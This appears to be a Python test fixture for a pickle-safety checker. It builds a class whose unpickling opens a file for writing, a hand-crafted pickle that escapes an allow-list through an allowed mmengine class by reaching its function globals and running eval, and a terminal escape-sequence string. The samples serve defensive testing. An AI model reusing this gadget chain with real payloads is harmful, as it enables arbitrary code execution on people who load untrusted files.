"""Files that would run code if they were unpickled, and a text that would command a terminal."""
TERMINAL = '\x1b]0;owned\x07\x1b[2J\u202eowned'  # sets the title, clears the screen, turns the line around


class Hostile:
    """Leaves a trace when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return open, (str(self.path), 'w')


def through_getattr(trace):
    """A pickle that goes from an allowed class by getattr to its module's globals, puts eval there and lets it run."""

    def name(module, attribute):
        return f'c{module}\n{attribute}\n'.encode()

    def text(value):
        return b'X' + len(value).to_bytes(4, 'little') + value.encode()

    def attribute(owner, of):
        return name('builtins', 'getattr') + owner + text(of) + b'\x86R'

    history = name('mmengine.logging.history_buffer', 'HistoryBuffer')
    eval_ = attribute(attribute(name('builtins', 'getattr'), '__self__'), 'eval')
    code = text(f"open({str(trace)!r}, 'w')")
    return (b'\x80\x02' + attribute(attribute(history, '__init__'), '__globals__') + text('len') + eval_ + b's' + history + code
            + code + b'\x86R.')
